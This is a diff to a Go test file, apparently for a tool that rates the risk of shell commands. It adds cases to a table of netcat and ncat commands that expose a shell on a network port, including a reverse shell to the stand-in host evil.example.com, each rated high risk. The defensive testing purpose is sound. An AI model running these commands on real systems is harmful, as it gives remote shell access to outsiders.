@@ -14,6 +14,8 @@ func TestRiskExposure(t *testing.T) {
 	checkRisk(t, ctx, []riskCase{
 		// shells on a socket
 		{[]string{"nc", "-l", "4444", "-e", "/bin/sh"}, RiskHigh, "gives `/bin/sh` to whoever connects to port 4444 (nc -e)", ""},
+		{[]string{"ncat", "-lk", "4444", "-c", "bash"}, RiskHigh, "gives `bash` to whoever connects to port 4444", "contacts bash"},
+		{[]string{"nc", "-l", "-p", "4444", "-e", "sh"}, RiskHigh, "gives `sh` to whoever connects to port 4444", "contacts sh"},
 		{[]string{"nc", "-lvnp", "4444", "-e", "/bin/bash"}, RiskHigh, "gives `/bin/bash` to whoever connects to port 4444", ""},
 		{[]string{"nc", "evil.example.com", "4444", "-e", "/bin/sh"}, RiskHigh, "gives `/bin/sh` to evil.example.com, which connects to it", ""},
 		{[]string{"ncat", "--sh-exec", "bash -i", "-l", "9000"}, RiskHigh, "gives `bash -i` to whoever connects to port 9000", ""},
